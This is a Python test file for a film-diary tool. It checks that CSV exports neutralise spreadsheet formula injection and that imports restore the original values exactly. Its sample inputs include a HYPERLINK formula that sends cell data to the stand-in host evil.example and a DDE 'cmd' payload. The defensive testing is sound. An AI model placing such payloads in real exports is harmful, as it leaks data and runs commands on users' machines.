"""Item 10: CSV exports neutralise formula injection (a cell starting with =, +, -, @, a tab
or CR gets a leading ' so that spreadsheets show it as text) in the csv, letterboxd and imdb
formats, and kinolog's own imports take it off again: the round trip is exact."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kinolog.db.diary import Diary
from kinolog.db.files import csv_writer, read_csv, spreadsheet_cell
from kinolog.db.models import FilmRef
from tests.safety.helpers import run_kinolog

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1 (555) 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "'=already quoted once",
    "''-twice",
    "-",
    "=",
    "a note = fine inside",
]


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


@pytest.fixture
def risky_diary(data_dir: Path) -> Path:
    diary = Diary(data_dir / "diary.db")
    for number, text in enumerate(RISKY):
        imdb_id = f"tt{1000000 + number}"
        film = FilmRef(key=f"imdb:{imdb_id}", title=text, year=2001, imdb_id=imdb_id)
        diary.log_viewing(
            film, rating=1 + number % 10, watched="2024-01-0" + str(1 + number % 9),
            note=f"{text}\nsecond line", tags=[text.replace(",", ";").strip() or "x", "plain"],
        )  # fmt: skip
    diary.close()
    return data_dir


@pytest.mark.parametrize(
    ("fmt", "command"), [("csv", "diary"), ("letterboxd", "letterboxd"), ("imdb", "imdb-ratings")]
)
def test_exports_neutralise_formulas_and_read_back_exactly(
    risky_diary: Path, tmp_path: Path, fmt: str, command: str
) -> None:
    export = tmp_path / f"export-{fmt}.csv"
    exported = run_kinolog(risky_diary, "export", "diary", "--format", fmt, "-o", str(export))
    assert exported.returncode == 0, exported.stderr
    written = cells(export)
    assert not [cell for cell in written if cell.startswith(TRIGGERS)]  # spreadsheets: text
    assert any(cell.startswith("'=HYPERLINK") for cell in written)
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    result = run_kinolog(fresh, "import", command, str(export))
    assert result.returncode == 0, result.stderr
    before = Diary(risky_diary / "diary.db", access="read")
    after = Diary(fresh / "diary.db", access="read")
    try:
        # Titles as every import keeps them (white space collapsed); notes and tags exactly.
        titles = sorted(entry.film.title for entry in after.entries())
        assert titles == sorted(" ".join(text.split()) for text in RISKY)
        if fmt != "imdb":  # IMDb's format carries ratings only
            # (Letterboxd's reviews are HTML: white space around a note does not survive.)
            html = fmt == "letterboxd"
            old = {
                e.film.imdb_id: ((e.note or "").strip() if html else e.note, e.tags, e.rating)
                for e in before.entries()
            }
            new = {e.film.imdb_id: (e.note, e.tags, e.rating) for e in after.entries()}
            assert new == old
    finally:
        before.close()
        after.close()


# Text a cell may hold after kinolog trims it: no white space at either end.
trimmed = st.text(
    alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " ", ",", '"', "\n"]),
    max_size=8,
).map(str.strip)


@given(trimmed)
def test_reading_undoes_writing_for_any_cell(text: str) -> None:
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerow(["column"])
    writer.writerow([text or "x"])
    table = read_csv(buffer.getvalue().encode("utf-8"), "cell.csv")
    assert table.rows[0][1]["column"] == (text or "x")
    assert not str(spreadsheet_cell(text)).startswith(TRIGGERS)


def test_numbers_and_empty_cells_are_left_alone() -> None:
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(None) is None
    assert spreadsheet_cell("") == "" and spreadsheet_cell("Heat") == "Heat"
